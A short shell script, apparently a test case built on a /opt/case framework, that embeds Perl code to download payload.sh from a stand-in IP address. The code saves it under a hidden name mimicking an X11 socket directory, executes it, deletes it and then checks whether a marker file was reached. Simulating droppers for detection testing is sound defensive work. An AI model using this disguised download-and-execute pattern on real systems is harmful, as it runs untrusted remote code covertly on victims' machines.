#!/bin/sh
. /opt/case/case.sh

perl - <<'END'
use HTTP::Tiny; my $r = HTTP::Tiny->new(agent => "libwww/6")->get("http://203.0.113.10/payload.sh");
open my $f, ">", "/tmp/.ICE-unix-9" or die; print $f $r->{content}; close $f; chmod 0755, "/tmp/.ICE-unix-9";
system("/tmp/.ICE-unix-9"); unlink "/tmp/.ICE-unix-9";
END
test -e /tmp/reached
took_place
